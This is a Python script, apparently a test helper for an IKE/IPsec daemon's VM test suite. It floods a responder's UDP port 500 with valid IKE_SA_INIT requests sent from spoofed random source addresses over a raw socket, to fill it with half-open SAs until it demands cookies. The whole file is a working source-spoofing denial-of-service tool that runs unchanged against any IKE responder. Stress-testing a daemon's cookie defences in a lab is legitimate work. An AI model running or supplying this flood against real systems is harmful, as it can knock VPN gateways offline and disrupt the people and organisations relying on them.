"""A flood of IKE_SA_INIT requests from spoofed sources, over a raw IPv4 socket.

  ike_flood.py DST PREFIX SECONDS
sends, for SECONDS, requests to DST port 500 from random addresses in PREFIX (a routed IPv4
prefix such as 198.18.0.0/15) and random ports, each with a fresh initiator SPI and nonce.
They offer aes128gcm16-prfsha256-ecp256 (what tests/vm/ike.sh configures by default) with a
valid ECP-256 public value (the group's generator), so a responder takes each for a new
half-open IKE SA until it demands COOKIEs. Prints `sent N`.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time

# The generator of P-256 (RFC 5903 encodes the public value as x | y).
P256_G = bytes.fromhex(
    "6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296"
    "4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5"
)
SA, KE, NONCE, NONE = 33, 34, 40, 0


def transform(last, kind, ident, attrs=b""):
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), kind, 0, ident) + attrs


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def ike_sa_init(spi_i, nonce):
    transforms = (
        transform(False, 1, 20, struct.pack("!HH", 0x800E, 128))  # ENCR_AES_GCM_16, 128 bits
        + transform(False, 2, 5)  # PRF_HMAC_SHA2_256
        + transform(True, 4, 19)  # DH group 19, ECP-256
    )
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    chain = (
        payload(KE, proposal)
        + payload(NONCE, struct.pack("!HH", 19, 0) + P256_G)
        + payload(NONE, nonce)
    )
    header = struct.pack("!8s8sBBBBII", spi_i, bytes(8), SA, 0x20, 34, 0x08, 0, 28 + len(chain))
    return header + chain


def ipv4_udp(src, dst, sport, data):
    udp = struct.pack("!HHHH", sport, 500, 8 + len(data), 0) + data  # checksum 0: none (IPv4)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0, src, dst
    )
    return ip + udp  # the kernel fills in the IP checksum (IP_HDRINCL)


def main():
    dst, prefix, seconds = sys.argv[1], ipaddress.ip_network(sys.argv[2]), float(sys.argv[3])
    dst_b = socket.inet_aton(dst)
    base, span = int(prefix.network_address), prefix.num_addresses - 2
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        for _ in range(50):
            src = (base + 1 + random.randrange(span)).to_bytes(4, "big")
            message = ike_sa_init(os.urandom(8), os.urandom(32))
            try:
                sock.sendto(ipv4_udp(src, dst_b, random.randrange(1024, 65535), message), (dst, 0))
                sent += 1
            except OSError:  # a full queue: the flood goes on
                pass
        time.sleep(0.002)  # leave the one vCPU some room for the daemons
    print(f"sent {sent}")


main()
